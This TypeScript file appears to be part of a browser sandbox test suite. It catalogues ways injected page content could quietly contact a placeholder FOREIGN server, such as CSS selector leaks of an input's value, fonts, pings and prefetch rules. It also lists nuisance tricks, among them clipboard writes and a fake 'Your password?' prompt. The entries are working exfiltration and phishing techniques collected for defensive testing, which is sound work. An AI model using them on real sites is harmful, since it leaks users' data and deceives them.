import type { Attempt } from './attempts.js';

/** A way to send something to a foreign server without reading its answer. The test checks whether the server got a request. */
export interface QuietAttempt extends Attempt {
  /** The requested path if nothing confines the page; `undefined` if this browser sends no request on its own. */
  readonly asks: string | undefined;
}

const PATHS = /FOREIGN(\/[\w./-]+)/;
const wait = 'await new Promise((resolve) => setTimeout(resolve, 300));';

const script = (name: string, body: string, { isAsked = true } = {}): QuietAttempt => ({
  name,
  body: `${body} ${wait} return false;`,
  worksUnguarded: false,
  asks: isAsked ? PATHS.exec(body)?.[1] : undefined,
});
const markup = (name: string, html: string, options?: { readonly isAsked: boolean }): QuietAttempt => ({
  ...script(
    name,
    `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)}.replaceAll('FOREIGN', FOREIGN));`,
    options,
  ),
  asks: options?.isAsked === false ? undefined : PATHS.exec(html)?.[1],
});

/** Styles, images, hints, and newer interfaces that load something. */
export const quietAttempts: readonly QuietAttempt[] = [
  markup('import a style', '<style>@import url(FOREIGN/quiet/import.css);</style>'),
  markup(
    'tell a value by the selector that matches it',
    '<input value="secret" style="width:9px"><style>input[value^=s]{background:url(FOREIGN/quiet/selector.svg)}</style>',
  ),
  markup('choose an image by its size', '<p style="background:image-set(url(FOREIGN/quiet/set.svg) 1x)">x</p>'),
  markup('mask with an image', '<p style="mask-image:url(FOREIGN/quiet/mask.svg)">x</p>'),
  markup(
    'load a font for one letter',
    '<style>@font-face{font-family:q;src:url(FOREIGN/quiet/letter.woff2);unicode-range:U+51}</style><p style="font-family:q">Q</p>',
  ),
  markup('draw an image in SVG', '<svg><image href="FOREIGN/quiet/svg-image.svg" width="9" height="9"></image></svg>'),
  markup('use a shape of another document', '<svg><use href="FOREIGN/quiet/use.svg#a"></use></svg>', {
    isAsked: false,
  }),
  markup('submit by an image', '<input type="image" src="FOREIGN/quiet/input.svg" alt="x">'),
  markup('embed', '<embed src="FOREIGN/quiet/embed.svg" type="image/svg+xml">'),
  markup('show a poster', '<video poster="FOREIGN/quiet/poster.svg"></video>'),
  markup('play a sound', '<audio src="FOREIGN/quiet/sound.mp3" preload="auto"></audio>'),
  markup('choose a source', '<picture><source srcset="FOREIGN/quiet/source.svg"><img alt="x"></picture>'),
  {
    ...markup('move where addresses begin', '<base href="FOREIGN/quiet/"><img src="base.svg" alt="x">'),
    asks: '/quiet/base.svg',
  },
  markup('preload', '<link rel="preload" as="image" href="FOREIGN/quiet/preload.svg">'),
  markup('preload a module', '<link rel="modulepreload" href="FOREIGN/quiet/preload.js">'),
  markup('load a manifest', '<link rel="manifest" href="FOREIGN/quiet/manifest.json">', { isAsked: false }),
  markup('show an icon', '<link rel="icon" href="FOREIGN/quiet/icon.svg">', { isAsked: false }),
  markup(
    'reload a nested document elsewhere',
    '<iframe srcdoc="&lt;meta http-equiv=refresh content=&quot;0;url=FOREIGN/quiet/refresh&quot;&gt;"></iframe>',
  ),
  markup('claim an advertisement', '<img attributionsrc="FOREIGN/quiet/attribution" src="data:," alt="x">', {
    isAsked: false,
  }),
  script(
    'speculate',
    `const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [FOREIGN + '/quiet/speculate'], eagerness: 'immediate' }] });
    document.head.append(rules);`,
    { isAsked: false },
  ),
  script(
    'ping from a link',
    `Object.assign(document.createElement('a'), { href: '#', ping: FOREIGN + '/quiet/ping' }).click();`,
    {
      isAsked: false,
    },
  ),
  script('fetch when it is gone', `window.fetchLater?.(FOREIGN + '/quiet/later', { activateAfter: 0 });`, {
    isAsked: false,
  }),
  script('open a WebTransport', `new WebTransport(FOREIGN.replace('http:', 'https:') + '/quiet/transport');`, {
    isAsked: false,
  }),
  script('load a worklet', `await CSS.paintWorklet.addModule(FOREIGN + '/quiet/worklet.js').catch(() => {});`, {
    isAsked: false,
  }),
  script(
    'print an XML document with a style elsewhere',
    `const f = document.createElement('iframe');
    f.src = URL.createObjectURL(new Blob(['<?xml-stylesheet href="' + FOREIGN + '/quiet/xml.css"?><a/>'], { type: 'text/xml' }));
    document.body.append(f);`,
    { isAsked: false },
  ),
  script(
    'write into a document of its own',
    `const f = document.createElement('iframe');
    document.body.append(f);
    f.contentDocument?.write('<img src="' + FOREIGN + '/quiet/written.svg">');`,
    { isAsked: false },
  ),
];

const never = (name: string, body: string): Attempt => ({ name, body, worksUnguarded: false });

/** Attempts to disturb the person or the machine. Without a click, most of them are refused in the control page, too. */
export const nuisances: readonly Attempt[] = [
  never('use its opener', 'return window.opener !== null || top.opener !== null;'),
  never('write the clipboard', 'await navigator.clipboard.writeText("stolen"); return true;'),
  never(
    'copy without a click',
    'getSelection().selectAllChildren(document.body); return document.execCommand("copy");',
  ),
  never('catch the pointer', 'await document.body.requestPointerLock(); return document.pointerLockElement !== null;'),
  never('catch all keys', 'await navigator.keyboard.lock(); return true;'),
  never('keep the screen on', 'await navigator.wakeLock.request("screen"); return true;'),
  never('ask for notifications', 'return (await Notification.requestPermission()) === "granted";'),
  never('ask for storage of its own', 'await document.requestStorageAccess(); return document.cookie !== "";'),
  never(
    'ask for a passkey',
    'await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } }); return true;',
  ),
  never(
    'ask a question that stops everything',
    'return confirm("Your password?") || prompt("Your password?") !== null;',
  ),
  never(
    'save a file',
    'Object.assign(document.createElement("a"), { href: "data:text/plain,x", download: "x.txt" }).click(); return false;',
  ),
  never(
    'say hello from a document within',
    `const f = document.createElement('iframe');
    f.srcdoc = "<script>const c = new MessageChannel(); c.port1.onmessage = () => parent.postMessage('heard', '*'); top.postMessage({ symphony: 'hello', version: 1 }, '*', [c.port2]);</scr" + "ipt>";
    const heard = new Promise((resolve) => addEventListener('message', ({ data }) => data === 'heard' && resolve(true)));
    document.body.append(f);
    return Promise.race([heard, new Promise((resolve) => setTimeout(() => resolve(false), 1000))]);`,
  ),
];
